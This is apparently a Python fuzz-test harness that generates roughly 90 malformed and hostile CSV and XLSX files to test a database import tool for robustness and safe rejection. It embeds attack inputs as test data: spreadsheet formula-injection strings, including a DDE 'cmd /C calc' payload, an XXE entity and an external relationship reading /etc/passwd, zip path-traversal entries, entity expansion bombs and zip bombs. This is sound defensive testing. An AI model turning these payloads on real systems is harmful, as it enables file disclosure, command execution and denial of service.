#!/usr/bin/env python3
"""(6) Hostile CSV / XLSX imports, ~90 files. Each file goes to --import on a fresh copy of a healthy database, under a memory cap and a
time limit. Rules: no crash/timeout/silent failure; exit != 0 => database logically unchanged; 'reject' files must be rejected;
'rows' files must be accepted with exactly the right strings; accepted => --verify passes and the --export has no live formula."""
import argparse, csv as _csv, fnmatch, io, json, struct, warnings, zipfile, zlib
warnings.simplefilter("ignore"); _csv.field_size_limit(1 << 30)
from lib import *
ap = argparse.ArgumentParser(); common(ap)
ap.add_argument("--import", dest="imp", required=True, help="{db} {file}"); ap.add_argument("--export", help="{db} {out}")
ap.add_argument("--header", default="key,val"); ap.add_argument("--dump", default="select key,val from item order by id", help="SQL giving the imported rows back")
ap.add_argument("--mem", type=int, default=2048); ap.add_argument("--rss", type=int, default=600, help="MiB"); ap.add_argument("--timeout", type=float, default=30); ap.add_argument("--big", type=int, default=80, help="MiB of the one-line CSV (use 1024 for the 1 GB case)"); ap.add_argument("--bomb", type=int, default=1024, help="MiB unpacked in the zip bombs")
ap.add_argument("--good", help="JSON: the rows that a good file has; the second cell of the first holds 00123, the first 志; all but the second fit GBK"); ap.add_argument("--only"); ap.add_argument("--keep"); ap.add_argument("--expect", action="append", default=[], help="PATTERN=rows|reject|either: what this program owes to such a file")
a = ap.parse_args(); H = a.header.split(","); W = len(H); bad = []; st = {}; worst = {"wall": 0, "rss": 0}
G = json.loads(a.good) if a.good else [["青山志愿者协会", "统一社会信用代码51410000MJ0000001X"], ["㐂寿社", "𠮷野家、龘䶮"], ["00123", "110105198001010123"]]
G = [r + [""] * (W - 2) for r in G]; C = []  # (name, filename, bytes|callable(path), expect, rows)
def ct(rows, sep=",", eol="\r\n", hdr=H): f = io.StringIO(); w = _csv.writer(f, delimiter=sep, lineterminator=eol); w.writerow(hdr); w.writerows(rows); return f.getvalue()
def add(n, b, exp, rows=None, ext="csv"): C.append((n, f"in.{ext}", b, exp, rows))
g = ct(G)
for enc in ("utf-8", "utf-8-sig", "gb18030", "utf-16"): add("enc-" + enc, g.encode(enc), "rows", G)
add("enc-utf16be-bom", b"\xfe\xff" + g.encode("utf-16-be"), "rows", G); add("enc-gbk-2byte", ct(G[:1] + G[2:]).encode("gbk"), "rows", G[:1] + G[2:])
add("enc-utf16le-nobom", g.encode("utf-16-le"), "either", G); add("enc-utf32", g.encode("utf-32"), "either", G); add("enc-latin1-junk", b"key,val\r\n\xff\xfe\x80\x81,x\r\n", "either")
add("enc-mixed-utf8-gbk", (ct(G[:1])).encode() + "民政局,测试\r\n".encode("gbk"), "reject"); add("enc-utf8-cut-last-char", (g.rstrip("\r\n") + "尾").encode()[:-1], "reject"); add("enc-utf8-one-bad-byte", g.encode().replace("志".encode(), b"\xe5\xbf\xff", 1), "reject"); add("enc-surrogate-cesu", ct([["a\ud83d", "x"]]).encode("utf-8", "surrogatepass"), "reject")
for n, e in (("crlf", "\r\n"), ("lf", "\n"), ("cr", "\r")): add("eol-" + n, ct(G, eol=e).encode(), "rows" if n != "cr" else "either", G)
add("eol-mixed", ct(G, eol="\n").encode().replace(b"\n", b"\r\n", 2), "rows", G); add("no-final-eol", g.encode().rstrip(), "rows", G); add("blank-lines", g.encode() + b"\r\n\r\n\r\n", "rows", G)
add("embedded-newline", ct([["甲", "第一行\n第二行,\"引号\""]]).encode(), "either", [["甲", "第一行\n第二行,\"引号\""]])
add("ragged-short", (g + "只有一列\r\n").encode(), "reject"); add("ragged-long", (g + "a,b,c,d\r\n").encode(), "reject"); add("unclosed-quote", (g + '"没有结束,b\r\nc,d\r\n').encode(), "reject"); add("quote-in-middle", (g + 'ab"c"d,x\r\n').encode(), "either"); add("text-after-quote", (g + '"ab"cd,x\r\n').encode(), "reject")
add("nul-byte", g.encode().replace(b"00123", b"00\x00123"), "reject"); add("ctrl-z", g.encode() + b"\x1a", "either"); add("ansi-in-key", ct([["\x1b[2J假", "x"]]).encode(), "either"); add("bidi-in-key", ct([["abc\u202egnp", "x"]]).encode(), "either"); add("bom-inside", (g + "\ufeffk,v\r\n").encode(), "either")
add("empty", b"", "reject"); add("only-bom", b"\xef\xbb\xbf", "reject"); add("only-newlines", b"\r\n" * 50, "reject"); add("header-only", ct([]).encode(), "either", []); add("header-dup", b"key,key\r\na,b\r\n", "reject"); add("header-missing", b"key\r\na\r\n", "reject"); add("no-header", ct(G).split("\r\n", 1)[1].encode(), "reject"); add("header-quoted-bom", ("\ufeff" + ct(G).replace("key", '"key"', 1)).encode(), "rows" if W == 2 and H[0] == "key" else "either", G); add("sep-line", b"sep=,\r\n" + g.encode(), "either", G); add("tab-separated", ct(G, sep="\t").encode(), "either", G); add("semicolon", ct(G, sep=";").encode(), "either", G); add("fullwidth-comma", g.replace(",", "，").encode(), "reject")
add("dup-in-file", ct(G + [G[0]]).encode(), "reject"); add("bad-last-of-5000", ct([[f"批{i}", "x"] for i in range(5000)] + [["only-one"]]).encode(), "reject"); add("rows-20k", ct([[f"大{i}", "x"] for i in range(20000)]).encode(), "either", [[f"大{i}", "x"] for i in range(20000)])
add("sci-notation-id", ct([["1.10105E+17", "x"]]).encode(), "reject"); add("empty-key", ct([["", "x"]]).encode(), "reject"); add("space-key", ct([["\u3000\u00a0 ", "x"]]).encode(), "reject"); add("huge-field-2MB", ct([["k", "长" * 700000]]).encode(), "either"); add("cols-1M", (",".join(H) + "\r\n" + "x," * 1000000 + "\r\n").encode(), "reject")
def bigline(p):
    with open(p, "wb") as f:
        f.write((",".join(H) + '\r\n"').encode())
        for _ in range(a.big): f.write(b"x" * (1 << 20))
add("one-line-%dMB" % a.big, bigline, "reject"); add("dev-zero", lambda p: os.symlink("/dev/zero", p), "reject"); add("is-dir", lambda p: os.mkdir(p), "reject"); add("missing", lambda p: None, "reject"); add("fifo", lambda p: os.mkfifo(p), "reject"); add("sqlite-file", lambda p: shutil.copy(db0, p), "reject"); add("xlsx-named-csv", None, "either", G)
FORM = ["=1+1", "+1+1", "-1+1", "@A1", "\t=1", "=HYPERLINK(\"http://e/?\"&A1)", "＝1+1", "－1", '=cmd|\' /C calc\'!A0', "-5", "-5.25", "=", "'=1"]
add("formulas-in-text", ct([[f"公{i}", v] for i, v in enumerate(FORM)]).encode(), "either"); add("formula-in-key", ct([["=1+1", "x"], ["@x", "y"]]).encode(), "either")
# ---- xlsx
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
def esc(s): return s.replace("&", "&amp;").replace("<", "&lt;")
def _col(i):
    s = ""
    while i: i, r = divmod(i - 1, 26); s = chr(65 + r) + s
    return s
def sheet(rows, mode="inline", dim=None, pre="", post=""):
    x = f'<?xml version="1.0" encoding="UTF-8"?>{pre}<worksheet {NS}>' + (f'<dimension ref="{dim}"/>' if dim else "") + "<sheetData>"; si = []
    for r, row in enumerate(rows, 1):
        x += f'<row r="{r}">'
        for c, v in enumerate(row):
            ref = f"{_col(c + 1)}{r}"
            if isinstance(v, tuple): x += f'<c r="{ref}"{v[0]}>{v[1]}</c>'
            elif mode == "shared": si.append(v); x += f'<c r="{ref}" t="s"><v>{len(si) - 1}</v></c>'
            else: x += f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{esc(v)}</t></is></c>'
        x += "</row>"
    return x + "</sheetData>" + post + "</worksheet>", si
BASE = {"[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
 "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
 "xl/workbook.xml": f'<?xml version="1.0"?><workbook {NS} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
 "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'}
def sst(si, attrs="", pre=""): return f'<?xml version="1.0"?>{pre}<sst {NS} {attrs}>' + "".join(s if s.startswith("<si") else f"<si><t>{esc(s)}</t></si>" for s in si) + "</sst>"
def xlsx(sh, ss=None, extra=(), drop=(), over=None):
    f = io.BytesIO(); z = zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED); parts = {**BASE, **(over or {})}
    for k, v in parts.items():
        if k not in drop: z.writestr(k, v)
    if sh is not None: z.writestr("xl/worksheets/sheet1.xml", sh)
    if ss is not None: z.writestr("xl/sharedStrings.xml", ss)
    for k, v in extra: z.writestr(k, v)
    z.close(); return f.getvalue()
def bomb(part, head, unit, tail, mb, ss=None):
    def f(p):
        z = zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED)
        for k, v in BASE.items(): z.writestr(k, v)
        if part != "xl/worksheets/sheet1.xml": z.writestr("xl/worksheets/sheet1.xml", sheet([H] + G)[0])
        with z.open(part, "w", force_zip64=True) as o:
            o.write(head.encode()); u = (unit * ((1 << 20) // len(unit))).encode()
            for _ in range(mb): o.write(u)
            o.write(tail.encode())
        z.close()
    return f
def X(n, b, e, rows=None): add(n, b, e, rows, "xlsx")
good = xlsx(sheet([H] + G)[0]); s2, si2 = sheet([H] + G, "shared"); WS = f'<?xml version="1.0"?><worksheet {NS}><sheetData>'; HR = '<row r="1">' + "".join(f'<c r="{_col(i+1)}1" t="inlineStr"><is><t>{h}</t></is></c>' for i, h in enumerate(H)) + "</row>"
X("x-good-inline", good, "rows", G); X("x-good-shared", xlsx(s2, sst(si2)), "rows", G); X("x-rich-text", xlsx(sheet([H, [("", "<v>0</v>"), "x"]])[0].replace('<c r="A2">', '<c r="A2" t="s">'), sst(["<si><r><t>青</t></r><r><t>山</t></r></si>"])), "rows", [["青山", "x"]]); X("x-phonetic", xlsx(sheet([H, [("", "<v>0</v>"), "x"]])[0].replace('<c r="A2">', '<c r="A2" t="s">'), sst(["<si><t>東京</t><rPh sb=\"0\" eb=\"2\"><t>トウキョウ</t></rPh></si>"])), "either", [["東京", "x"]])
X("x-id-18-digits-number", xlsx(sheet([H, [("", "<v>110105198001010000</v>"), "x"]])[0]), "reject"); X("x-id-sci-number", xlsx(sheet([H, [("", "<v>1.1010519800101E+17</v>"), "x"]])[0]), "reject"); X("x-formula-cached", xlsx(sheet([H, [(' t="str"', "<f>1+1</f><v>2</v>"), "x"]])[0]), "either"); X("x-error-cell", xlsx(sheet([H, [(' t="e"', "<v>#REF!</v>"), "x"]])[0]), "either"); X("x-bool-cell", xlsx(sheet([H, [(' t="b"', "<v>1</v>"), "x"]])[0]), "either"); X("x-text-equals", xlsx(sheet([H, ["公式", "=1+1"]])[0]), "either", [["公式", "=1+1"]])
X("x-bomb-sheet", bomb("xl/worksheets/sheet1.xml", WS + HR, " ", "</sheetData></worksheet>", a.bomb), "reject"); X("x-bomb-cells", bomb("xl/worksheets/sheet1.xml", WS + HR, '<row><c t="inlineStr"><is><t>a</t></is></c></row>', "</sheetData></worksheet>", min(a.bomb, 300)), "reject"); X("x-bomb-strings", bomb("xl/sharedStrings.xml", f"<sst {NS}>", "<si><t>aaaaaaaaaaaaaaaa</t></si>", "</sst>", min(a.bomb, 300)), "reject"); X("x-bomb-one-string", bomb("xl/sharedStrings.xml", f"<sst {NS}><si><t>", "a", "</t></si></sst>", a.bomb), "reject"); X("x-bomb-attr", bomb("xl/worksheets/sheet1.xml", f'<worksheet {NS} evil="', "a", '"><sheetData/></worksheet>', a.bomb), "reject")
X("x-sparse-XFD1048576", xlsx(WS + HR + '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>'), "reject"); X("x-sparse-B1048576", xlsx(WS + HR + '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c><c r="B1048576" t="inlineStr"><is><t>y</t></is></c></row></sheetData></worksheet>'), "either"); X("x-dimension-lie", xlsx(sheet([H] + G, dim="A1:XFD1048576")[0]), "either", G); X("x-row-4e9", xlsx(WS + HR + '<row r="4294967295"><c r="A4294967295"><v>1</v></c></row></sheetData></worksheet>'), "reject"); X("x-col-ZZZZZZZ", xlsx(WS + HR + '<row r="2"><c r="ZZZZZZZ2"><v>1</v></c></row></sheetData></worksheet>'), "reject")
X("x-sst-uniqueCount-4e9", xlsx(s2, sst(si2, 'count="4294967295" uniqueCount="4294967295"')), "either", G); X("x-sst-index-out", xlsx(sheet([H, [(' t="s"', "<v>99</v>"), "x"]])[0], sst(["a"])), "reject"); X("x-sst-index-neg", xlsx(sheet([H, [(' t="s"', "<v>-1</v>"), "x"]])[0], sst(["a"])), "reject")
LOL = "<!DOCTYPE l [<!ENTITY a0 \"lol\">" + "".join(f'<!ENTITY a{i} "{("&a%d;" % (i - 1)) * 10}">' for i in range(1, 10)) + "]>"
X("x-entity-bomb", xlsx(sheet([H, ["k", "v"]], pre=LOL)[0].replace(">v<", ">&a9;<")), "reject"); X("x-external-entity", xlsx(sheet([H, ["k", "v"]], pre='<!DOCTYPE l [<!ENTITY e SYSTEM "file:///etc/passwd">]>')[0].replace(">v<", ">&e;<")), "reject"); X("x-xml-deep", xlsx(WS + HR + "<a>" * 200000 + "</a>" * 200000 + "</sheetData></worksheet>"), "either"); X("x-xml-broken", xlsx(sheet([H] + G)[0][:-40]), "reject"); X("x-xml-utf16-sheet", xlsx(sheet([H] + G)[0].replace("UTF-8", "UTF-16").encode("utf-16")), "either", G); X("x-attrs-100k", xlsx(WS.replace("<sheetData>", "<sheetData " + " ".join(f'a{i}="1"' for i in range(100000)) + ">") + HR + "</sheetData></worksheet>"), "either"); X("x-merge-300k", xlsx(sheet([H] + G, post="<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 300000 + "</mergeCells>")[0]), "either", G)
X("x-zip-traversal", xlsx(sheet([H] + G)[0], extra=[("../../../../tmp/pwned", "x"), ("/tmp/pwned", "x")]), "either", G); X("x-zip-dup-sheet", xlsx(sheet([H] + G)[0], extra=[("xl/worksheets/sheet1.xml", sheet([H, ["另一个", "x"]])[0])]), "either"); X("x-zip-truncated", good[:len(good) // 2], "reject"); X("x-zip-bad-crc", good.replace(zlib.crc32(sheet([H] + G)[0].encode()).to_bytes(4, "little"), b"\1\2\3\4"), "reject"); X("x-zip-50k-entries", xlsx(sheet([H] + G)[0], extra=[(f"x/{i}", "") for i in range(50000)]), "either", G); X("x-zip-empty", b"PK\5\6" + b"\0" * 18, "reject"); X("x-size-lie", good.replace(struct.pack("<I", len(sheet([H] + G)[0].encode())), b"\xff\xff\xff\x7f"), "either", G)
X("x-no-sheet", xlsx(None), "reject"); X("x-no-workbook", xlsx(sheet([H] + G)[0], drop=("xl/workbook.xml",)), "either"); X("x-rels-loop", xlsx(sheet([H] + G)[0], over={"xl/_rels/workbook.xml.rels": BASE["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", "workbook.xml")}), "either"); X("x-rels-external", xlsx(sheet([H] + G)[0], over={"xl/_rels/workbook.xml.rels": BASE["xl/_rels/workbook.xml.rels"].replace('Target="worksheets/sheet1.xml"', 'Target="file:///etc/passwd" TargetMode="External"')}), "either"); X("x-ole-encrypted", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(8000), "reject"); X("x-ole-difat-4e9", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + b"\x3e\0\x03\0\xfe\xff\x09\0\x06\0" + b"\0" * 6 + b"\xff" * 480, "reject"); X("x-random", os.urandom(20000), "reject"); X("x-csv-named-xlsx", g.encode(), "either", G); X("x-lf-in-cell", xlsx(sheet([H, ["甲", "一&#10;二"]])[0].replace("&amp;#10;", "&#10;")), "either", [["甲", "一二"]]); X("x-ctrl-escape", xlsx(sheet([H, ["甲", "a_x001B_[31mb"]])[0]), "either")
d0 = tempfile.mkdtemp(prefix="hi0-", dir=a.work); db0 = setup(a.init, d0); L0 = logical(db0)
C = [(n, f, good if n == "xlsx-named-csv" else b, e, r) for n, f, b, e, r in C]
for pattern, exp in (x.rsplit("=", 1) for x in a.expect): C = [(n, f, b, exp, r) if fnmatch.fnmatchcase(n, pattern) else (n, f, b, e, r) for n, f, b, e, r in C]
TRIG = "=+-@\t\r\n＝＋－＠"
for name, fn, b, exp, rows in C:
    if a.only and a.only not in name: continue
    dd = tempfile.mkdtemp(prefix="hi-", dir=a.work); p = os.path.join(dd, fn); db = shutil.copy(db0, os.path.join(dd, "t.db"))
    b(p) if callable(b) else open(p, "wb").write(b)
    if a.keep and os.path.isfile(p): shutil.copy(p, os.path.join(a.keep, name + "." + fn.split(".")[1]))
    r = run(expand(a.imp, db=db, file=p), timeout=a.timeout, mem_mb=a.mem); k = kind(r); st[k] = st.get(k, 0) + 1
    if r.wall > worst["wall"]: worst.update(wall=round(r.wall, 2), slow=name)
    if r.rss > worst["rss"]: worst.update(rss=r.rss, fat=name)
    if k in ("crash", "timeout", "silent"): bad.append(f"{name}: {k} {r}")
    if r.rss > a.rss << 10: bad.append(f"{name}: used {r.rss >> 10} MiB")
    rc = raw_controls(r.out + r.err)
    if rc: bad.append(f"{name}: printed raw {rc}")
    if integrity(db) != "ok": bad.append(f"{name}: integrity"); continue
    if k != "ok":
        if logical(db) != L0: bad.append(f"{name}: failed but changed the database")
        if exp == "rows": bad.append(f"{name}: good file rejected: {r.err[:150]}")
    else:
        if exp == "reject": bad.append(f"{name}: accepted: {r.out[:80]}")
        c = sqlite3.connect(db); got = [list(map(str, x)) for x in c.execute(a.dump).fetchall()]; c.close()
        if rows is not None and got != [x[:len(got[0]) if got else 2] for x in rows]: bad.append(f"{name}: values differ: {str(got)[:150]}")
        if a.verify:
            v = run(expand(a.verify, db=db, dir=dd), timeout=60)
            if v.rc: bad.append(f"{name}: verify {v}")
        if a.export:
            o = os.path.join(dd, "out.csv"); v = run(expand(a.export, db=db, out=o), timeout=60)
            if v.rc: bad.append(f"{name}: export {v}")
            else:
                t = open(o, "rb").read(); t = t.decode("utf-8-sig") if not t.startswith(b"\xff\xfe") else t.decode("utf-16")
                for row in _csv.reader(io.StringIO(t, newline="")):
                    for x in row:
                        if x[:1] and x[0] in TRIG and not re.fullmatch(r"-?\d{1,15}(\.\d+)?", x): bad.append(f"{name}: live formula in export {x[:40]!r}")
    if os.path.exists("/tmp/pwned"): bad.append(f"{name}: TRAVERSAL"); os.unlink("/tmp/pwned")
    shutil.rmtree(dd)
shutil.rmtree(d0); worst["rss"] = f"{worst['rss'] >> 10} MiB"
report("hostile_input", bad, {"tried": len(C), **dict(sorted(st.items())), **worst})
